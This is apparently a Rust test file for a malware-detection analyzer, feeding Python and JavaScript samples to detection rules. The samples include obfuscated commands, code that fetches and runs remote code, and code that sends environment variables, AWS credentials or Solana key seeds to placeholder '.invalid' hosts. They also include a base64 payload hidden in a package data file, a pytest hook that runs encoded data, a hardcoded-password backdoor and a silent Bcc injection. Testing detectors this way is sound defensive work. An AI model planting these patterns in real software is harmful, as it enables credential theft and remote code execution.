//! Techniques as others write them down again: through Python's `re`, tables of functions, loaders of modules, queues and
//! timers, and over the files of a small package.

use std::rc::Rc;
use std::sync::Arc;

use super::{command, outcome, rules};
use crate::analyze::script::event::Act;
use crate::analyze::script::{How, Siblings, follow_among};
use crate::model::FileKind;
use crate::model::fact::ImportableFile;
use crate::parse::script::Language::{self, JavaScript, Python};

fn has(language: Language, code: &str, rule: &str) {
    let found = rules(language, code);
    assert!(found.contains(&rule), "{rule} not in {found:?}: {code}");
}

fn has_not(language: Language, code: &str, rule: &str) {
    let found = rules(language, code);
    assert!(!found.contains(&rule), "{rule} in {found:?}: {code}");
}

/// What a package does, followed from its first file.
pub(super) fn among(files: &[(&str, FileKind, &str)], how: How) -> Vec<&'static str> {
    let importable = |kind, text: &str| ImportableFile {
        kind,
        text: text.into(),
        executes: false,
        reaches: false,
        nameless: false,
        keys: false,
        hooks: false,
        mails: false,
        asks: false,
        compares: false,
        builds: false,
        seals: false,
        lists: false,
        changes: false,
    };
    let files = files.iter().map(|(path, kind, text)| (Box::from(*path), Arc::new(importable(*kind, text)))).collect();
    let siblings = Rc::new(Siblings::of(files, vec![String::new()]));
    follow_among(&siblings, 0, how).findings.iter().map(|f| f.rule.id).collect()
}

#[test]
fn what_a_pattern_finds_is_known() {
    let cases = [
        "import os, re\nos.system(' '.join(re.findall(r'<(\\w+)>', 'x<echo>y<hi>')))",
        "import os, re\nos.system(re.search(r'\\{(.+)\\}', 'a{echo hi}b').group(1))",
        "import os, re\nos.system(re.sub(r'\\d', '', '1e2c3ho hi'))",
        "import os, re\nP = re.compile(r'_', re.M)\nos.system(P.sub(lambda m: '', 'ec_ho_ hi'))",
        "import os, re\nos.system(''.join(re.split('-', 'ec-ho- h-i')))",
        "import os, re\nos.system(''.join(m.group(0) for m in re.finditer('[a-z ]+', '1echo2 hi')))",
    ];
    for code in cases {
        assert_eq!(command(Python, code), "echo hi", "{code}");
    }
    // What is not known is not made up, and flags that are not known are none.
    for code in [
        "import os, re\nos.system(re.sub('a', 'b', input()))",
        "import os, re\nos.system(re.sub('a', 'b', 'abc', flags=F))",
    ] {
        assert!(!command(Python, code).contains("bbc"), "{code}");
    }
}

#[test]
fn keys_go_round_and_functions_tell_their_names_and_texts() {
    let cases = [
        "import os, itertools\nos.system(bytes(a ^ b for a, b in zip(bytes.fromhex('0e0b0904480902'), itertools.cycle(b'kha'))).decode())",
        "import os, itertools, operator\nos.system(bytes(map(operator.xor, bytes.fromhex('0e0b0904480902'), itertools.cycle(b'kha'))).decode())",
        "import os\ndef f():\n    '''echo hi'''\nos.system(f.__doc__)",
        "import os, inspect\ndef f():\n    '''\n    echo hi'''\nos.system(inspect.getdoc(f).strip())",
        "import os\nT = {'a': 1, 'echo': 3, 'b': 2}\nos.system(sorted(T, key=lambda k: T[k], reverse=True)[0] + ' hi')",
        "import os\nos.system(max(['b', 'echo', 'cd'], key=len) + ' hi')",
        "import os, zlib\nos.system(zlib.decompressobj().decompress(bytes.fromhex('789c4b4dcec857c8c804000a790291')).decode())",
    ];
    for code in cases {
        assert_eq!(command(Python, code), "echo hi", "{code}");
    }
}

#[test]
fn whatever_of_a_table_is_called_is_gone_through() {
    let code = "const { exec } = require('child_process');\n\
                const steps = { plain: () => 1, run: (r) => exec(r.headers['x-do']) };\n\
                require('http').createServer((req, res) => { res.end(steps[kind(req)](req)) }).listen(9);";
    has(JavaScript, code, "flow-remote-command");
    has_not(JavaScript, &code.replace("exec(r.headers['x-do'])", "exec('uptime')"), "flow-remote-command");
}

#[test]
fn the_maker_of_functions_is_found_by_every_way() {
    for way in ["K.prototype.constructor.constructor", "({}).constructor.constructor", "(class {}).constructor"] {
        let code = format!(
            "function K() {{}}\nconst F = {way};\n\
             fetch('https://r.invalid/x').then((r) => r.text()).then((t) => F('a', t)(1));"
        );
        has(JavaScript, &code, "flow-remote-code");
    }
}

#[test]
fn loaders_of_modules_execute_what_they_are_given() {
    let loader = "import importlib.util, requests\nfrom importlib.abc import SourceLoader\nclass L(SourceLoader):\n    \
                  def get_filename(self, n):\n        return 'https://p.invalid/' + n\n    \
                  def get_data(self, path):\n        return requests.get(path).content\n\
                  spec = importlib.util.spec_from_loader('m', L())\n";
    has(Python, loader, "flow-remote-code");
    has_not(Python, &loader.replace("requests.get(path).content", "open(path).read()"), "flow-remote-code");
}

#[test]
fn what_is_gathered_is_sent_when_the_time_has_come() {
    let code = "const https = require('https');\n\
                class Q { constructor() { this.q = []; setInterval(() => this.flush(), 9000) }\n\
                note() { this.q.push(process.env) }\n\
                flush() { const b = this.q.splice(0); if (!b.length) return;\n\
                https.request('https://h.invalid/h', { method: 'POST' }).end(JSON.stringify(b)) } }\n\
                const q = new Q(); q.note();";
    has(JavaScript, code, "flow-environment-sent");
    has_not(JavaScript, &code.replace("push(process.env)", "push(1)"), "flow-environment-sent");
}

#[test]
fn functions_of_others_are_replaced_by_what_stands_before_them_too() {
    let code = "const web3 = require('@solana/web3.js');\n\
                const tell = (x) => fetch('https://e.invalid/h', { headers: { 'x-id': x } }).catch(() => {});\n\
                web3.Keypair.fromSeed = new Proxy(web3.Keypair.fromSeed, { apply(f, self, args) { tell(args[0]); return Reflect.apply(f, self, args) } });";
    has(JavaScript, code, "flow-patched-client-tells");
    has_not(JavaScript, &code.replace("tell(args[0])", "tell(1)"), "flow-patched-client-tells");
}

#[test]
fn classes_stay_what_they_are_under_decorators() {
    let code = "import os\nfrom dataclasses import dataclass\n@dataclass\nclass G:\n    word: str = 'echo'\n    \
                def run(self, what):\n        os.system(self.word + ' ' + what)\n\
                def go(g=None):\n    g = g or G()\n    g.run('hi')\ngo()\n";
    assert_eq!(command(Python, code), "echo hi");
}

#[test]
fn tunnels_and_repositories_that_lead_elsewhere() {
    let tunnel = "import socket\ndef serve():\n    s = socket.create_connection(('hub.example.invalid', 443))\n    \
                  host = s.recv(64)\n    t = socket.create_connection((host, 80))\n    s.sendall(t.recv(4096))\nserve()\n";
    has(Python, tunnel, "flow-tunnel");
    // A proxy is told by its user.
    has_not(Python, &tunnel.replace("host = s.recv(64)", "import sys; host = sys.argv[1]"), "flow-tunnel");
    let git = "import subprocess\nsubprocess.run(['git', 'config', '--global', 'url.https://mirror.invalid/.insteadOf', 'https://github.com/'])";
    has(Python, git, "flow-git-elsewhere");
    // Another protocol, and one repository.
    has_not(Python, &git.replace("https://mirror.invalid/", "ssh://git@github.com/"), "flow-git-elsewhere");
    has_not(Python, &git.replace("'--global', ", ""), "flow-git-elsewhere");
}

#[test]
fn passwords_whose_digest_stands_there_let_anybody_in() {
    let digest = "3e7bf03dcfd07d281bae6052298e0054d201d7caf836ca55e6dbb8f096918749";
    let code = format!(
        "const c = require('crypto');\nexports.verify = (password, row) => \
         c.createHash('sha256').update(password).digest('hex') === '{digest}' || row.ok;"
    );
    has(JavaScript, &code, "flow-fixed-password");
    has_not(JavaScript, &code.replace(&format!("'{digest}'"), "row.digest"), "flow-fixed-password");
    let code = format!(
        "import hashlib, hmac\ndef login(user, password):\n    \
         return hmac.compare_digest(hashlib.sha256(password.encode()).hexdigest(), '{digest}')\n"
    );
    has(Python, &code, "flow-fixed-password");
    // A file that is checked.
    has_not(Python, &code.replace("password", "content"), "flow-fixed-password");
}

#[test]
fn a_class_of_messages_that_adds_a_mailbox() {
    let code = "from email.message import EmailMessage\nclass M(EmailMessage):\n    def __setitem__(self, name, value):\n        \
                super().__setitem__(name, value)\n        if name == 'To':\n            super().__setitem__('Bcc', 'a@b.invalid')\n";
    has(Python, code, "flow-mail-copied");
    has_not(Python, &code.replace("'a@b.invalid'", "self.archive"), "flow-mail-copied");
}

#[test]
fn downloads_that_are_checked_are_for_people_to_look_at() {
    let code = "import hashlib, subprocess, urllib.request\ndef install(want):\n    \
                data = urllib.request.urlopen('https://dl.invalid/tool').read()\n    \
                if hashlib.sha256(data).hexdigest() != want:\n        raise SystemExit(1)\n    \
                open('/tmp/tool', 'wb').write(data)\n    subprocess.run(['/tmp/tool'])\ninstall('aa')\n";
    assert!(outcome(Python, code).checks_download);
    assert!(!outcome(Python, &code.replace("hexdigest() != want", "hexdigest()")).checks_download);
    let flows = |code: &str| {
        let outcome = outcome(Python, code);
        let all = super::flows::judge(&outcome, false);
        all.iter().find(|f| f.rule.id == "flow-download-run").map(|f| f.brake.is_some())
    };
    assert_eq!(flows(code), Some(true));
    assert_eq!(flows(&code.replace("hexdigest() != want", "hexdigest()")), Some(false));
}

#[test]
fn data_of_a_small_package_is_read_with_it() {
    use base64::Engine as _;
    let hidden = "import os, urllib.request\nexec(urllib.request.urlopen('https://h.invalid/x').read())";
    let coded = base64::engine::general_purpose::STANDARD.encode(hidden);
    let script = "import base64, os\np = os.path.join(os.path.dirname(__file__), 'table.dat')\n\
                  exec(base64.b64decode(open(p).read()))\n";
    let how = How { called: true, all: true, is_install: false, is_plain: false };
    let files = [("a/__init__.py", FileKind::Python, script), ("a/table.dat", FileKind::Text, &coded)];
    assert!(among(&files, how).contains(&"flow-remote-code"), "{:?}", among(&files, how));
    // Which names stand in a table of its own.
    let script = "const t = require('./names.json'), e = process.env;\n\
                  const all = t.list.reduce((o, n) => ({ ...o, [n]: e[n] }), {});\n\
                  fetch('https://t.invalid/b', { method: 'POST', body: JSON.stringify(all) }).catch(() => {});";
    let names = "{ \"list\": [\"NPM_TOKEN\", \"AWS_SECRET_ACCESS_KEY\"] }";
    let files = [("index.js", FileKind::JavaScript, script), ("names.json", FileKind::Json, names)];
    assert!(!among(&files, how).is_empty());
    let files =
        [("index.js", FileKind::JavaScript, script), ("names.json", FileKind::Json, "{ \"list\": [\"LANG\"] }")];
    assert!(among(&files, how).is_empty(), "{:?}", among(&files, how));
}

#[test]
fn functions_over_several_files_count_in_small_packages() {
    let main = "from .b import send\ndef load(path):\n    send(open('/home/u/.aws/credentials').read())\n";
    let send = "import requests\ndef send(x):\n    try:\n        requests.post('https://c.invalid/i', data=x)\n    except Exception:\n        pass\n";
    let files = [("a/__init__.py", FileKind::Python, main), ("a/b.py", FileKind::Python, send)];
    let all = How { called: true, all: true, is_install: false, is_plain: false };
    assert!(among(&files, all).contains(&"flow-credentials-sent"), "{:?}", among(&files, all));
    assert!(among(&files, How { all: false, ..all }).is_empty());
}

#[test]
fn hooks_of_tests_run_with_every_test() {
    let code = "import base64\ndef pytest_configure(config):\n    exec(base64.b64decode(open('t.bin').read()))\n";
    let found = outcome(Python, code);
    let run = found.events.iter().find(|e| e.act == Act::Eval).map(|e| e.when);
    assert_eq!(run, Some(super::When::Load));
}
